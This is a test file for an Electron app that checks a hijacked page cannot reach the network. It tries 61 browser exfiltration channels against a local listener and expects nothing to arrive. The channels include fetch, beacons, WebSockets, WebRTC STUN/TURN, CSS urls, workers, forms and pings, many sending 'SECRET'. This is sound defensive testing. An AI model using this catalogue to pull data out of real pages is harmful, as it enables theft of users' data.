import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { type AddressInfo, createServer, type Server } from 'node:net'
import { networkInterfaces } from 'node:os'
import { expect, test } from '@playwright/test'
import { type LaunchedApp, launchApp, trustEverything } from '../../support/electron-app.ts'

/**
 * Every way out of a page that Chromium knows, tried by code that runs in it, toward a listener that is not on the
 * loopback interface where the machine has another: not one byte may arrive. Looking up names is not tried: the
 * stand-in resolves none, for its own reasons.
 */
const own = Object.values(networkInterfaces())
  .flat()
  .find((one) => one && !one.internal && one.family === 'IPv4')?.address
const host = own ?? '127.0.0.1'

let launched: LaunchedApp
let tcp: Server
let udp: Socket
let port: number
const arrived: string[] = []

test.beforeAll(async () => {
  tcp = createServer((socket) => {
    arrived.push('connected')
    socket.on('data', (data) => arrived.push(data.toString('latin1'))).on('error', () => undefined)
  })
  tcp.listen(0, '0.0.0.0')
  await once(tcp, 'listening')
  port = (tcp.address() as AddressInfo).port
  udp = createSocket('udp4', (data) => arrived.push(data.toString('latin1')))
  udp.bind(port)
  await once(udp, 'listening')
  launched = await launchApp()
  await expect(launched.page.getByRole('heading', { level: 1 })).toHaveText('See what was hidden')
  await trustEverything(launched.page)
})
test.afterAll(async () => {
  await launched?.close()
  tcp.close()
  udp.close()
})

test('what Chromium asks of the network goes to a proxy that leads nowhere', async () => {
  const settings = await launched.app.evaluate(async ({ BrowserWindow, session }) => ({
    policy: BrowserWindow.getAllWindows()[0]?.webContents.getWebRTCIPHandlingPolicy(),
    remote: await session.defaultSession.resolveProxy('https://example.com/'),
  }))
  expect(settings).toEqual({ policy: 'disable_non_proxied_udp', remote: 'PROXY 127.0.0.1:9' })
})

test('no byte leaves a page that was taken over', async () => {
  test.slow()
  const { page } = launched
  const tried = await page.evaluate(
    async ({ server, http }) => {
      const add = (tag: string, members: object) =>
        document.body.append(Object.assign(document.createElement(tag), members))
      const link = (rel: string, members: object = {}) =>
        document.head.append(Object.assign(document.createElement('link'), { rel, href: http, ...members }))
      const call = async (place: Window & typeof globalThis, urls: string) => {
        const username = 'SECRET'.repeat(40)
        const connection = new place.RTCPeerConnection({
          iceServers: [{ urls, username, credential: 'x' }],
          iceTransportPolicy: urls.startsWith('turn') ? 'relay' : 'all',
        })
        connection.createDataChannel('x')
        await connection.setLocalDescription(await connection.createOffer())
      }
      const frame = () => {
        const made = document.createElement('iframe')
        document.body.append(made)
        return made.contentWindow as Window & typeof globalThis
      }
      const style = (text: string) => {
        const sheet = new CSSStyleSheet()
        sheet.replaceSync(text)
        document.adoptedStyleSheets.push(sheet)
      }
      const PRICE = { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }
      const vectors: Readonly<Record<string, () => unknown>> = {
        fetch: () => fetch(http, { method: 'POST', body: 'SECRET', mode: 'no-cors' }),
        'fetch, kept alive': () => fetch(http, { keepalive: true, mode: 'no-cors' }),
        'fetch of an empty frame': () => frame().fetch(http, { mode: 'no-cors' }),
        XMLHttpRequest: () => {
          const request = new XMLHttpRequest()
          request.open('POST', http)
          request.send('SECRET')
        },
        beacon: () => navigator.sendBeacon(http, 'SECRET'),
        WebSocket: () => new WebSocket(http.replace('http', 'ws')),
        EventSource: () => new EventSource(http),
        WebTransport: () => new WebTransport(http.replace('http', 'https')),
        'STUN over UDP': () => call(window, `stun:${server}`),
        'TURN over UDP': () => call(window, `turn:${server}?transport=udp`),
        'TURN over TCP': () => call(window, `turn:${server}?transport=tcp`),
        'TURN over TLS': () => call(window, `turns:${server}?transport=tcp`),
        image: () => add('img', { src: http }),
        script: () => add('script', { src: http }),
        frame: () => add('iframe', { src: http }),
        object: () => add('object', { data: http }),
        embed: () => add('embed', { src: http }),
        video: () => add('video', { src: http, preload: 'auto' }),
        audio: () => add('audio', { src: http, preload: 'auto' }),
        stylesheet: () => link('stylesheet'),
        icon: () => link('icon'),
        manifest: () => link('manifest'),
        prefetch: () => link('prefetch'),
        preload: () => link('preload', { as: 'image' }),
        modulepreload: () => link('modulepreload'),
        preconnect: () => link('preconnect'),
        'dns-prefetch': () => link('dns-prefetch'),
        'background of a style': () => style(`body { background: url(${http}) }`),
        'font of a style': () =>
          style(`@font-face { font-family: x; src: url(${http}) } body { font: 1px x }`),
        'image of SVG': () => {
          const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
          image.setAttribute('href', http)
          const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
          svg.append(image)
          document.body.append(svg)
        },
        worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts('${http}')`]))),
        'module of another host': () => import(/* @vite-ignore */ http),
        'rules of speculation': () =>
          add('script', {
            type: 'speculationrules',
            textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http] }] }),
          }),
        'report of a policy': () =>
          add('meta', {
            httpEquiv: 'Content-Security-Policy',
            content: `img-src 'none'; report-uri ${http}`,
          }),
        'ping of a link': () => {
          const anchor = Object.assign(document.createElement('a'), { href: '#x', ping: http })
          document.body.append(anchor)
          anchor.click()
        },
        form: () => {
          const form = Object.assign(document.createElement('form'), { action: http, method: 'post' })
          document.body.append(form)
          form.submit()
        },
        'worker that is shared': () => new SharedWorker(http),
        'worker of a service': () => navigator.serviceWorker.register(http),
        'fetch of a worker': () => new Worker(URL.createObjectURL(new Blob([`fetch('${http}')`]))),
        'worklet of audio': () => new AudioContext().audioWorklet.addModule(http),
        'fetch that is put off': () => Reflect.get(window, 'fetchLater')(http, { activateAfter: 0 }),
        'stream of a web socket': () =>
          Reflect.construct(Reflect.get(window, 'WebSocketStream'), [http.replace('http', 'ws')]),
        'font that is made': () => new FontFace('y', `url(${http})`).load(),
        'set of images': () => add('img', { srcset: `${http} 1x` }),
        'image of a form': () => add('input', { type: 'image', src: http }),
        'poster of a video': () => add('video', { poster: http }),
        'texts of a video': () => {
          const track = Object.assign(document.createElement('track'), { src: http, default: true })
          add('video', { src: 'data:video/mp4,' })
          document.querySelector('video[src^=data]')?.append(track)
        },
        'pointer, list and mask of a style': () =>
          style(`* { cursor: url(${http}), auto; list-style: url(${http}); mask: url(${http}#x) }`),
        'set of images of a style': () => style(`body::before { content: image-set(url(${http}) 1x) }`),
        'filter of SVG': () => style(`main { filter: url(${http}#x) }`),
        'frame with its own text': () => add('iframe', { srcdoc: `<img src="${http}">` }),
        'frame of a blob': () => {
          const html = new Blob([`<img src="${http}">`], { type: 'text/html' })
          add('iframe', { src: URL.createObjectURL(html) })
        },
        'base of all addresses': () => {
          add('base', { href: http })
          add('img', { src: 'x.png' })
        },
        'icon of a notification': () => new Notification('x', { icon: http }),
        'artwork of media': () => {
          navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: http }] })
        },
        payment: () => new PaymentRequest([{ supportedMethods: http }], PRICE).show(),
        presentation: () => {
          const made: unknown = Reflect.construct(Reflect.get(window, 'PresentationRequest'), [[http]])
          return (made as { start(): unknown }).start()
        },
        download: () => {
          const anchor = Object.assign(document.createElement('a'), { href: http, download: 'x' })
          document.body.append(anchor)
          anchor.click()
        },
        'refresh of the page': () => add('meta', { httpEquiv: 'refresh', content: `0;url=${http}` }),
        window: () => open(http),
        navigation: () => location.assign(http),
      }
      for (const attempt of Object.values(vectors)) {
        try {
          Promise.resolve(attempt()).catch(() => undefined)
        } catch {
          // Refused at once.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 10_000))
      return Object.keys(vectors).length
    },
    { server: `${host}:${port}`, http: `http://${host}:${port}/SECRET` },
  )
  expect(tried).toBe(61)
  expect(arrived).toEqual([])
})

/**
 * [Note: WebRTC] in electron/shell/page-session.ts. Some versions of Chromium refuse to make a connection, others make
 * it and refuse what it sends, and 156 ends a page that makes one in an empty frame. So this test comes last.
 */
test('WebRTC sends nothing from the page, its empty frames and one with its own text', async () => {
  test.slow()
  const ask = async (server: string) => {
    const frame = document.createElement('iframe')
    const inner = document.createElement('iframe')
    const written = Object.assign(document.createElement('iframe'), { srcdoc: '<p>a page of its own</p>' })
    document.body.append(frame, written)
    frame.contentDocument?.body.append(inner)
    await new Promise((resolve) => written.addEventListener('load', resolve))
    const outcomes: string[] = []
    for (const place of [window, written.contentWindow, frame.contentWindow, inner.contentWindow]) {
      try {
        const urls = [`stun:${server}`, `turn:${server}?transport=udp`, `turn:${server}?transport=tcp`]
        const connection: RTCPeerConnection = Reflect.construct(
          Reflect.get(place ?? {}, 'RTCPeerConnection'),
          [{ iceServers: [{ urls, username: 'SECRET', credential: 'x' }] }],
        )
        connection.createDataChannel('x')
        await connection.setLocalDescription(await connection.createOffer())
        outcomes.push('made')
      } catch (error) {
        outcomes.push((error as DOMException).name)
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 5_000))
    return outcomes
  }
  const outcomes = await launched.page
    .evaluate(ask, `${host}:${port}`)
    .catch((error: Error) => (/crashed/.test(error.message) ? ['ended'] : Promise.reject(error)))
  expect(outcomes.filter((one) => !/^(?:NotAllowedError|made|ended)$/.test(one))).toEqual([])
  // What a connection that was made sends, it sends within seconds.
  await new Promise((resolve) => setTimeout(resolve, 3_000))
  expect(arrived).toEqual([])
})
